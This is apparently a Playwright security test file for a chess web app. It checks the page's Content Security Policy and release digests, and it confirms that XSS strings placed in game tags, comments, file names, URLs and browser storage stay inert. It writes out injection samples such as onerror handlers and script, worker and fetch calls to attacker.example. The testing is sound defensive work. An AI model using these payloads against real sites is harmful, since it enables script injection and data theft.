import { createHash } from 'node:crypto';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { dialog, open as openAnalysis, paste } from './analysis.ts';
import { ATTACKS } from './attacks.ts';
import { allowErrors, button, expect, open, test, title } from './support.ts';

const POLICY = [
  "default-src 'none'",
  "script-src 'self' 'wasm-unsafe-eval'",
  "connect-src 'self'",
  "img-src 'self' data:",
  "style-src 'self'",
  "manifest-src 'self'",
  "base-uri 'none'",
  "form-action 'none'",
  "require-trusted-types-for 'script'",
  'trusted-types default',
];

/** Checks that no attack has run or become anything but text. */
async function expectHarmless(page: Page): Promise<void> {
  const found = await page.evaluate(() => {
    const foreign = [...document.querySelectorAll('*')].filter((element) => {
      const names = element.getAttributeNames();
      const address = element.getAttribute('href') ?? '';
      return (
        names.some((name) => /^on|^srcdoc$|^formaction$/.test(name)) ||
        /^\s*(javascript|data):/i.test(address) ||
        /^(base|embed|form\[action\]|iframe|math|object)$/i.test(element.tagName)
      );
    });
    const scripts = [...document.querySelectorAll('script')].filter(({ src }) => !src);
    return {
      attacked: Reflect.get(globalThis, 'attacked') ?? Reflect.get({}, 'attacked'),
      foreign: [...foreign, ...scripts].map((element) => element.outerHTML.slice(0, 200)),
    };
  });
  expect(found).toEqual({ attacked: undefined, foreign: [] });
}

test('the policy is what it should be, and holds', async ({ page }) => {
  allowErrors(page, /policy|Content Security|TrustedScript|Trusted Type|blocked/i);
  await page.route('./', async (route) => {
    const response = await route.fetch();
    const harm = `<script>globalThis.attacked='inline'</script>
      <img src="data:," onerror="globalThis.attacked='handler'">
      <style>body { --attacked: 1 }</style>
      <base href="https://attacker.example/">`;
    await route.fulfill({
      response,
      body: (await response.text()).replace('<body>', `<body>${harm}`),
    });
  });
  await open(page);
  await expect(title(page)).toHaveText('Your move');
  const policy = await page
    .locator('meta[http-equiv=Content-Security-Policy]')
    .getAttribute('content');
  expect(policy?.split('; ')).toEqual(POLICY);
  const tried = await page.evaluate(async () => {
    // A script that a debugger evaluates at once may do more than the page's scripts.
    await new Promise((resolve) => setTimeout(resolve));
    const attack = 'globalThis.attacked="code"';
    const element = document.createElement('div');
    const tries: Record<string, () => unknown> = {
      html: () => {
        element.innerHTML = `<img src=x onerror='${attack}'>`;
      },
      script: () => {
        const script = document.createElement('script');
        script.textContent = attack;
        document.body.append(script);
      },
      'another script': () => {
        const script = document.createElement('script');
        script.src = 'https://attacker.example/x.js';
        document.body.append(script);
      },
      // biome-ignore lint/security/noGlobalEval: it must not work
      code: () => globalThis.eval(attack),
      timer: () => setTimeout(attack),
      worker: () => new Worker('https://attacker.example/x.js'),
      'a worker beside the page': () => new Worker('../x.js'),
      'a worker from data': () => new Worker(`data:text/javascript,${attack}`),
      address: () => fetch('https://attacker.example/'),
    };
    const worked: string[] = [];
    for (const [name, run] of Object.entries(tries)) {
      try {
        await run();
        worked.push(name);
      } catch {
        // As it should be.
      }
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
    return {
      worked,
      attacked: Reflect.get(globalThis, 'attacked'),
      base: document.baseURI.startsWith(location.origin),
      styled: getComputedStyle(document.body).getPropertyValue('--attacked'),
    };
  });
  expect(tried).toEqual({ worked: [], attacked: undefined, base: true, styled: '' });
});

test('every file that is shipped is listed with its digest, and the page says which build it is', async ({
  page,
}) => {
  const dist = process.env.E2E_DIST ?? 'dist';
  const listed = new Map(
    readFileSync(join(dist, 'SHA256SUMS'), 'utf8')
      .trim()
      .split('\n')
      .map((line) => [line.slice(66), line.slice(0, 64)]),
  );
  const shipped = readdirSync(dist, { recursive: true, encoding: 'utf8' }).filter(
    (name) => name !== 'SHA256SUMS' && statSync(join(dist, name)).isFile(),
  );
  expect([...listed.keys()].sort()).toEqual(shipped.sort());
  for (const name of shipped) {
    const digest = createHash('sha256')
      .update(readFileSync(join(dist, name)))
      .digest('hex');
    expect(digest, name).toBe(listed.get(name));
  }
  await open(page);
  await button(page, 'Settings').click();
  const build = await page.locator('.version code').textContent();
  expect(shipped.some((name) => name.endsWith(`-${build}.js`))).toBe(true);
});

/** Text as the value of a tag. */
const quoted = (text: string): string => text.replace(/[\\"]/g, '\\$&').replaceAll('\0', ' ');

/** All, and two of each sort in forms that differ. */
const ALL = { attacks: ATTACKS, tag: ['@long'] };
const SOME = { attacks: ATTACKS.filter((_, i) => (i + Math.floor(i / 10)) % 5 === 1), tag: [] };

for (const { attacks, tag } of [SOME, ALL]) {
  test(`${attacks.length} attacks stay text, whichever way they come`, { tag }, async ({
    page,
  }) => {
    allowErrors(page, /attacker\.example/);
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    page.on('dialog', (shown) => asked.push(shown.message()));

    await test.step('comments and tags of a game', async () => {
      await openAnalysis(page);
      const moves = ['Nf3', 'Nf6', 'Ng1', 'Ng8'];
      const comments = attacks
        .map((attack, i) => `${moves[i % 4]} { ${attack.replaceAll('}', ')')} }`)
        .join(' ');
      const tags = attacks.map((attack, i) => `[Tag${i} "${quoted(attack)}"]`).join('\n');
      const known = ['Event', 'Site', 'White', 'Black', 'Date', 'Round', 'Annotator', 'Opening']
        .map((name, i) => `[${name} "${quoted(attacks[i] ?? '')}"]`)
        .join('\n');
      await paste(page, `${known}\n${tags}\n\n${comments} *`);
      await expect(page.locator('.tree')).toContainText('onerror', { timeout: 20_000 });
      await expectHarmless(page);
      // As it was stored.
      await page.reload();
      await expect(page.locator('.tree')).toContainText('onerror', { timeout: 20_000 });
      await expectHarmless(page);
    });

    await test.step('games in a file, and its name', async () => {
      const games = attacks.map((attack) => {
        const text = quoted(attack);
        return `[Event "${text}"]\n[White "${text}"]\n[Black "${text}"]\n[Date "${text}"]\n\n1. e4 *\n`;
      });
      await button(page, 'Import').first().click();
      await dialog(page)
        .locator('input[type=file]')
        .setInputFiles(
          attacks.map((attack, i) => ({
            name: `${attack.replaceAll(/[\0/]/g, '_')}.pgn`,
            mimeType: 'text/plain',
            buffer: Buffer.from(games[i] ?? ''),
          })),
        );
      await expect(page.locator('.games-count')).toHaveText(`${attacks.length} games`, {
        timeout: 20_000,
      });
      await expect(dialog(page)).toContainText('onerror');
      const list = page.locator('.games-list');
      for (let i = 0; i < attacks.length / 7; i += 1) {
        await list.press('PageDown');
        if (i % 5 === 0) await expectHarmless(page);
      }
      await page.keyboard.press('Escape');
    });

    await test.step('addresses and FENs', async () => {
      await page.evaluate(async (texts) => {
        const shown = () => new Promise((resolve) => requestAnimationFrame(resolve));
        const visit = (address: string): Promise<unknown> => {
          location.hash = address;
          return shown();
        };
        for (const [i, attack] of texts.entries()) {
          const fen = `${attack} ${texts[i + 1] ?? ''}`;
          if (i % 2 === 0) await visit(`#play/chess?fen=${encodeURIComponent(fen)}`);
          if (i % 10 === 0) await visit(`#analysis/chess/${attack}`);
          if (i % 10 === 5) await visit(`#endgame/${attack}?${attack}`);
        }
      }, attacks);
      await expectHarmless(page);
    });

    await test.step('the store of the browser', async () => {
      await page.evaluate((texts) => {
        const keys = Object.keys(localStorage);
        texts.forEach((attack, i) => {
          const key = keys[i % keys.length] ?? '';
          localStorage.setItem(key, i % 2 === 0 ? attack : JSON.stringify({ [attack]: attack }));
          localStorage.setItem(`chariot.${attack}`, attack);
        });
      }, attacks);
      await page.goto('about:blank');
      await open(page);
      await expect(title(page)).toHaveText('Your move');
      await expectHarmless(page);
    });
    expect(asked.filter((address) => /attacker|javascript/.test(address))).toEqual([]);
  });
}
